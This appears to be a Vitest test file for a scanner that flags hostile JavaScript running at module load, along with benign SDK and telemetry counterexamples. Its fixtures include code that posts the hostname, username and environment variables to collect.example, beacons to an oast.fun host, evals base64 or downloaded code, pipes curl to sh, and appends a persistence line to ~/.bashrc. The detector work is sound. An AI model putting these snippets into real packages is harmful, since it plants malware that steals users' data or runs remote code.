/**
 * The code an entry module runs when it is loaded (src/checks/lib/load-code.ts): what runs is
 * judged, what a user calls later is not. Snippets written for these tests.
 */
import { describe, expect, test } from 'vitest';
import { loadTimeText, readLoadJavaScript } from '../../src/checks/lib/load-code.js';

const HOST_DATA_SEND = "https.request({ hostname: 'collect.example', method: 'POST' }).end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username }));";
const HEAD = "const os = require('os');\nconst https = require('https');\n";

describe('readLoadJavaScript: findings at load', () => {
  test.each([
    ['host data sent at the top level', HEAD + HOST_DATA_SEND, ['exfiltration']],
    ['host data sent from a function called at once', `${HEAD}(function () { ${HOST_DATA_SEND} })();`, ['exfiltration']],
    ['host data sent from an async arrow called at once', `${HEAD}(async () => { ${HOST_DATA_SEND} })();`, ['exfiltration']],
    ['host data sent from a declared function the module calls', `${HEAD}function report() { ${HOST_DATA_SEND} }\nreport();`, ['exfiltration']],
    ['host data sent from a method of a class the module makes and calls', `${HEAD}class Probe { run() { ${HOST_DATA_SEND} } }\nnew Probe().run();`, ['exfiltration']],
    ['the environment sent through a bound module name', "const h = require('https');\nconst req = h.request('https://collect.example/e', { method: 'POST' });\nreq.end(JSON.stringify(process.env));", ['exfiltration']],
    ['a request-catcher host called at load', "require('https').get('https://abc123.oast.fun/ping');", ['beacon']],
    ['decoded text run as code', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());", ['decoded-eval']],
    ['a download piped to a shell', "require('child_process').exec('curl -s https://get.example/x.sh | sh');", ['download-exec']],
    ['downloaded text run as code, in the response callback', "const https = require('https');\nhttps.get('https://get.example/p.js', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => eval(d)); });", ['remote-eval']],
    ['a write to the shell startup file', "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/x.js &\\n');", ['persistence']],
  ])('%s', (_name, code, flags) => {
    expect(readLoadJavaScript(code)).toEqual(flags);
  });
});

describe('readLoadJavaScript: what a library does when asked is not a finding', () => {
  test.each([
    ['an SDK that sends os.hostname() only inside an exported function', `${HEAD}module.exports = function report() { ${HOST_DATA_SEND} };`],
    ['an SDK whose client method sends the host name', `${HEAD}class Client { send(event) { ${HOST_DATA_SEND} } }\nmodule.exports = new Client();`],
    ['telemetry that sends on an explicit call, with host data read into defaults at load', `${HEAD}const defaults = { host: os.hostname(), pid: process.pid };\nexports.capture = function (e) { https.request({ hostname: 't.example', method: 'POST' }).end(JSON.stringify({ ...defaults, e })); };`],
    ['an object method that posts the environment', "const https = require('https');\nmodule.exports = { flush() { https.request('https://t.example').end(JSON.stringify(process.env)); } };"],
    ['a network import beside host data, no call at load', `${HEAD}const hostname = os.hostname();\nmodule.exports = { hostname };`],
    ['a shell completion script held as text', "export const completion = `# Installation: app completion >> ~/.bashrc\\n_app() { :; }`;"],
    ['a getter defined through a function, named like a host-data call, beside a network import', "var http = require('http');\nvar isIP = require('net').isIP;\nvar req = Object.create(http.IncomingMessage.prototype);\ndefineGetter(req, 'hostname', function hostname() { return this.get('Host'); });\ndefineGetter(req, 'ip', function ip() { return proxyaddr(this, os.hostname()); });"],
    ['the global object found by Function("return this") beside feature detection of XMLHttpRequest', "var g = typeof self !== 'undefined' ? self : Function('return this')();\nvar xhr = typeof XMLHttpRequest !== 'undefined' && 'withCredentials' in new XMLHttpRequest();"],
    ['calls named in strings (a rule table of deprecated APIs) beside a network import', "const http = require('http');\nmodule.exports = { http: { createClient: { replacedBy: \"'http.request()'\" } }, os: { getNetworkInterfaces: { replacedBy: \"'os.networkInterfaces()'\" } } };"],
    ['a route handler registered at load', "const app = require('express')();\nconst https = require('https');\napp.use('/x', (req, res) => { https.get('https://t.example/?h=' + os.hostname()); });"],
    ['a declared function never called', "function boot() { eval(Buffer.from('eA==', 'base64').toString()); }\nmodule.exports = boot;"],
  ])('%s', (_name, code) => {
    expect(readLoadJavaScript(code)).toEqual([]);
  });
});

describe('loadTimeText', () => {
  test('the bodies of functions not run at load are emptied; control blocks and callbacks are kept', () => {
    expect(loadTimeText('if (a) { b() }\nexports.f = function () { c() };\nsetTimeout(() => { d() });')).toBe('if (a) { b() }\nexports.f = function () {};\nsetTimeout(() => { d() });');
  });

  test('braces in strings, templates, regular expressions and comments are not structure', () => {
    expect(loadTimeText("const r = /[{]/g; const s = '}'; const t = `{`; // }\nfunction f() { x() }")).toBe("const r = /[{]/g; const s = '}'; const t = `{`; \nfunction () {}");
  });

  test('brackets that do not balance (a file cut by a cap): null, not read', () => {
    expect(loadTimeText('function a() { b(')).toBeNull();
    expect(readLoadJavaScript('(function () { ' + HOST_DATA_SEND)).toBeNull();
  });

  test('linear in the text: many small functions calling each other', () => {
    const many = Array.from({ length: 20_000 }, (_, i) => `function f${i}() { f${i + 1}(); }`).join('\n') + '\nf0();';
    const start = performance.now();
    expect(loadTimeText(many)).not.toBeNull();
    expect(performance.now() - start).toBeLessThan(5000);
  });
});
